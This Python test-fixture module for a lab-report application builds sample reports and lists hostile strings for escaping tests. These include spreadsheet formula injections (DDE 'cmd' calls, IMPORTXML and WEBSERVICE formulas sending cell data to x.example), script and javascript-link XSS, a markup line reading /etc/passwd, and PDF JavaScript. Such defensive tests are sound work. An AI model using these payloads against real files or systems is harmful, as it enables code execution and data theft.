"""A small report with every kind of block, and texts that would do harm where they were taken for more than text."""

from __future__ import annotations

from msgspec.structs import replace

from labapp.reports.model import (
    Block,
    Bullets,
    Cell,
    Entry,
    Heading,
    Note,
    Pairs,
    Paragraph,
    Part,
    Picture,
    Report,
    Run,
    Table,
    Words,
)

WORDS = {
    name: name.replace("_", " ").capitalize()
    for name in (
        *("contents", "page", "of", "in_short", "entries", "left_out", "made", "made_on", "read_online", "qr", "notes"),
        *("note", "title", "organisation", "by", "part", "photo", "overview", "address", "heading", "content"),
        "slides_only",
    )
} | {"notes_cut": "{n} notes cut", "no_slide": "No slide: {titles}", "rows_more": "{n} more"}


def said(text: str, lang: str | None = None, *, strong: bool = False) -> Words:
    """The text as words."""
    return (Run(text, strong, lang),)


RANKING = Table(
    caption=said("Dots"),
    titles=(Cell(said("Idea")), Cell(said("Dots")), Cell(said("Balanced"))),
    rows=(
        (Cell(said("En sida", "sv"), share=100), Cell(said("14"), number=14), Cell(said("14.1"), number=14.1)),
        (Cell(said("Ett möte", "sv"), share=50), Cell(said("7"), number=7), Cell(said("6.9"), number=6.9)),
    ),
)
TEST_CARD = Pairs(((said("We believed"), said("that it helps " * 20)), (said("We measured"), said("calls"))))


def report(*blocks: Block, text: str = "A note") -> Report:
    """A report whose one part has these blocks, or one of each kind; `text` is written in every place where people write."""
    one_of_each: tuple[Block, ...] = (
        Heading(3, said(text)),
        Paragraph(said(text)),
        Paragraph(said(text), soft=True),
        Bullets((said(text), said("Another"))),
        RANKING,
        Table(caption=said(text), titles=(Cell(said(text)),), rows=((Cell(said(text)),),)),
        Table(caption=said("A form"), rows=((Cell(said("Asked"), head=True), Cell(said(text))),)),
        Heading(3, said("Test one")),
        TEST_CARD,
        Note(text, title=text, organisation="Harbour", by="nurse", lang="sv"),
    )
    part = Part(id="a1", title=text, kicker=("Understand", "20 min"), prompt=text, blocks=blocks or one_of_each)
    return Report(
        language="en",
        kind="Lab report",
        name="lab-report",
        title=text,
        lead=text,
        address="https://labs.example.org/report/lab-1",
        made_at="2026-11-22T10:00:00.000Z",
        case=(("Case number", text),),
        facts=(("Who", said(text)),),
        counts=((31, "notes"),),
        entries=(
            Entry(text, text, "innovation", ("Innovation", "In use"), 3, "Evidence: 3 of 5", "https://x.example"),
        ),
        parts=(part,),
        left_out=("3 notes that were hidden.",),
        words=WORDS,
    )


def with_photo(made: Report) -> Report:
    """The report with a photo on a note of its own."""
    note = Note("Our model", picture=Picture("/photo/lab/1/small", "Photo: Our model", 640, 480))
    part = made.parts[0]
    return replace(made, parts=(replace(part, blocks=(*part.blocks, note)),))


# What an office program may take for a formula, also after what it skips or takes away.
FORMULAS = (
    *("=1+1", "=SUM(A1:A9)", '=HYPERLINK("http://x.example";"click")', "=cmd|' /C calc'!A0", "=@SUM(1)", "==1"),
    *("+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "@A1", "\t=1+1", "\r=1+1", "\n=1+1"),
    *("\0=1+1", " =1+1", "  +1", "'=1+1", '"=1+1', "''=1+1", '"" =1+1', "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1"),
    *("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20A1", "\u22121+1", "-", "=", "+", "@", "=1+1\nmore", "\t", "=ÅÄÖ(1)"),
    *("=IMPORTXML(CONCAT(\"http://x.example/?\",A1),\"//a\")", "=WEBSERVICE(\"http://x.example\")", "+46 70 123", "-–—", "=DDE()"),
)  # fmt: skip

# What a markup of some format could be taken for.
MARKUP = (
    "<script>alert(1)</script>",
    "# A heading",
    "= A heading",
    "#import \"@preview/x:1.0.0\"",
    "#read(\"/etc/passwd\")",
    "$ x $ *bold* _thin_ `code` \\ @ref <label>",
    "[click](javascript:alert(1))",
    "![](http://x.example/pixel)",
    "| a | b |",
    "- not a list\n1. nor this",
    "> no quote",
    "http://x.example and www.x.example and a@x.example",
    "<!-- --> &amp; &lt; </w:t></w:r> ]]>",
    "{\\rtf1 \\field}",
    "%PDF-1.7 (text) \\( <</JS (x)>>",
    "\u202eright to left\u202c",
)  # fmt: skip
